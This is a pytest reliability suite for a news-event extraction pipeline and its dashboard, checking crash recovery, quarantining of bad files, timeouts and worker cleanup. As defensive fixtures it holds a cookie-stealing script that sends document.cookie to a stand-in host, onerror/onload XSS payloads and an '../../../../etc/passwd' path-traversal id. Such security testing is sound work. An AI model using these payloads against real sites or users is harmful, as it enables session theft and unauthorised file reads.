"""Bad input, crashes and kills lose nothing: each document is stored whole or not at all."""

from __future__ import annotations

import gzip
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from sitrep.engine import run
from sitrep.export import to_json_dict
from sitrep.store import Store

TOWNS = ["Kharkiv", "Izium", "Bakhmut", "Kherson", "Mykolaiv", "Zaporizhzhia", "Sumy", "Chernihiv"]


def _write_corpus(folder: Path, n: int) -> None:
    """``n`` short, distinct articles written for this test."""
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(n):
        town = TOWNS[i % len(TOWNS)]
        (folder / f"a{i:04d}.txt").write_text(
            f"Shelling hits {town} district, report {i}\n"
            f"Artillery shells struck a residential district of {town} on Tuesday, killing {i % 9 + 2} people "
            f"and wounding {i % 5 + 1}, regional officials said in report number {i}.\n"
            f"Rescue teams worked through the night to clear the rubble.\n"
        )


def _stable(db: Path) -> str:
    data = to_json_dict(Store(db, create=False))
    for doc in data["documents"]:
        doc["sources"] = sorted(Path(s).name for s in doc["sources"])
        doc["source"] = Path(doc["source"]).name
    data["quarantine"] = []
    return json.dumps(data, sort_keys=True)


@pytest.mark.slow
def test_reliability_kill_9_then_resume_loses_and_duplicates_nothing(tmp_path: Path) -> None:
    corpus = tmp_path / "in"
    _write_corpus(corpus, 240)
    killed_db, clean_db = tmp_path / "killed.db", tmp_path / "clean.db"
    proc = subprocess.Popen([sys.executable, "-m", "sitrep.cli", "run", str(corpus), "--db", str(killed_db),
                             "--workers", "1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    stored = 0
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
        if killed_db.exists():
            try:
                with sqlite3.connect(f"file:{killed_db}?mode=ro", uri=True, timeout=1) as conn:
                    stored = conn.execute("SELECT count(*) FROM documents").fetchone()[0]
            except sqlite3.OperationalError:
                continue
            if stored >= 3:
                os.kill(proc.pid, signal.SIGKILL)
                break
    proc.wait()
    assert proc.returncode == -signal.SIGKILL, "the run finished before it could be killed: enlarge the corpus"
    with sqlite3.connect(killed_db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        partial = conn.execute("SELECT count(*) FROM documents").fetchone()[0]
        orphans = conn.execute("SELECT count(*) FROM mentions WHERE document_id NOT IN (SELECT id FROM documents)")
        assert orphans.fetchone()[0] == 0
    assert 0 < partial < 240
    resumed = run([corpus], killed_db)
    assert resumed.already_stored == partial and resumed.new == 240 - partial
    run([corpus], clean_db)
    assert _stable(killed_db) == _stable(clean_db)


def test_reliability_mixed_folder_stores_good_and_lists_bad(tmp_path: Path) -> None:
    folder = tmp_path / "mixed"
    _write_corpus(folder, 2)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(bytes(range(256)) * 8)
    (folder / "truncated.txt.gz").write_bytes(gzip.compress(b"Shelling in Kharkiv killed two people.\n" * 50)[:40])
    (folder / "feed.jsonl").write_text(
        json.dumps({"id": "ok", "title": "Clashes near Bakhmut", "text": "Clashes near Bakhmut killed three soldiers on Monday, officials said."})
        + "\n{not json\n"
    )
    summary = run([folder], tmp_path / "m.db")
    store = Store(tmp_path / "m.db", create=False)
    assert store.document_count() == 3
    bad = {Path(q.source).name.split("#")[0]: q.reason for q in store.quarantined()}
    assert {"empty.txt", "binary.txt", "truncated.txt.gz", "feed.jsonl"} <= bad.keys()
    assert all(reason for reason in bad.values())
    assert len(summary.quarantined) == len(bad)


def test_reliability_input_paths_are_labels_never_opened(tmp_path: Path) -> None:
    """A JSONL id that looks like a path is only a label: nothing outside the input is read or written."""
    feed = tmp_path / "feed.jsonl"
    feed.write_text(json.dumps({"id": "../../../../etc/passwd", "title": "Protest in Lagos",
                                "text": "Hundreds of people marched peacefully in Lagos on Saturday over fuel prices."}) + "\n")
    before = set(tmp_path.iterdir())
    run([feed], tmp_path / "p.db")
    (doc,) = Store(tmp_path / "p.db").iter_documents()
    assert doc.source.endswith("#../../../../etc/passwd")
    assert "root:" not in doc.text
    assert set(tmp_path.iterdir()) - before <= {tmp_path / "p.db", tmp_path / "p.db-wal", tmp_path / "p.db-shm",
                                                tmp_path / "p.db.lock"}  # the store's write lock


HOSTILE_HTML = """<html><head><title>Clashes in Sirte</title>
<script>fetch('http://203.0.113.9/steal?c=' + document.cookie)</script></head>
<body onload="alert(1)"><article><h1>Clashes in Sirte</h1>
<p>Fighters clashed with government troops on the outskirts of Sirte on Tuesday, killing four people, officials said.</p>
<p><img src=x onerror="alert(2)">Residents said the fighting stopped by nightfall.<iframe src="http://203.0.113.9/"></iframe></p>
<p>Witnesses said the clashes &lt;script&gt;alert(3)&lt;/script&gt; began near the port.</p>
</article></body></html>"""


def test_reliability_hostile_page_renders_inert_in_dashboard(tmp_path: Path) -> None:
    import asyncio

    from sitrep.web import make_datasette

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "hostile.html").write_text(HOSTILE_HTML)
    run([tmp_path / "in"], tmp_path / "h.db")
    (doc,) = Store(tmp_path / "h.db").iter_documents()
    assert "Fighters clashed" in doc.text
    ds = make_datasette(tmp_path / "h.db")
    asyncio.run(ds.invoke_startup())
    html = asyncio.run(ds.client.get(f"/article/{doc.id}")).text
    body = html.lower()
    for needle in ("<script>alert", "onerror=\"alert", "onload=\"alert", "<iframe", "203.0.113.9"):
        assert needle not in body, needle
    if "alert(3)" in doc.text:
        assert "&lt;script&gt;alert(3)" in html


def test_reliability_slow_document_is_quarantined_with_time_out(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A document that stalls a stage is quarantined for time; the others are stored."""
    from dataclasses import replace

    import sitrep.pipeline as pipeline
    from sitrep.settings import DEFAULT

    real = pipeline.extract_events

    def stalling(doc, settings):  # type: ignore[no-untyped-def]
        if doc.source.endswith("a0001.txt"):
            time.sleep(5)
        return real(doc, settings)

    monkeypatch.setattr(pipeline, "extract_events", stalling)
    _write_corpus(tmp_path / "in", 3)
    summary = run([tmp_path / "in"], tmp_path / "t.db", replace(DEFAULT, doc_timeout_s=1.0, workers=1))
    assert summary.new == 2
    (item,) = summary.quarantined
    assert item.source.endswith("a0001.txt") and item.reason.startswith("Q009")


def _children(pid: int) -> list[int]:
    """Process ids whose parent is ``pid`` (Linux /proc)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs Linux /proc")
def test_reliability_workers_die_when_the_run_is_killed_during_start_up(tmp_path: Path) -> None:
    """Issue 20: a run killed while its worker processes are still starting leaves none behind."""
    corpus = tmp_path / "in"
    _write_corpus(corpus, 80)  # over engine.SMALL_RUN: worker processes are started
    proc = subprocess.Popen([sys.executable, "-m", "sitrep.cli", "run", str(corpus), "--db", str(tmp_path / "s.db"),
                             "--workers", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    children: list[int] = []
    while time.monotonic() < deadline and proc.poll() is None and len(children) < 2:
        time.sleep(0.05)
        children = _children(proc.pid)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert children, "no worker process was seen before the run ended"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and any(map(_alive, children)):
        time.sleep(0.2)
    left = [pid for pid in children if _alive(pid)]
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert not left, f"{len(left)} worker processes outlived the killed run"


BACKGROUND = ("Shelling hits {town}, report {i}\n"
              "Artillery shells struck a residential district of {town} on Tuesday, killing {n} people, "
              "regional officials said in report number {i}.\n"
              "In 2016, government forces shelled the same district and killed 12 people.\n")


@pytest.mark.slow
def test_reliability_two_concurrent_runs_store_what_one_run_stores(tmp_path: Path) -> None:
    """Issue 20: a second run on the same store waits for the first; every table ends with the
    row counts of a single run (the background table had every row twice)."""
    corpus = tmp_path / "in"
    corpus.mkdir()
    for i in range(12):
        (corpus / f"b{i:02d}.txt").write_text(BACKGROUND.format(town=TOWNS[i % len(TOWNS)], i=i, n=i % 7 + 2))
    twice, once = tmp_path / "twice.db", tmp_path / "once.db"
    cmd = [sys.executable, "-m", "sitrep.cli", "run", str(corpus), "--db", str(twice), "--workers", "1"]
    procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outputs = [p.communicate(timeout=600) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outputs
    assert any("waiting" in err for _, err in outputs), outputs
    run([corpus], once)

    def counts(db: Path) -> dict[str, int]:
        with sqlite3.connect(db) as conn:
            tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                                 "AND name NOT LIKE 'documents_fts%'")]
            return {t: conn.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}

    assert counts(twice) == counts(once)
    assert counts(once)["background"] > 0
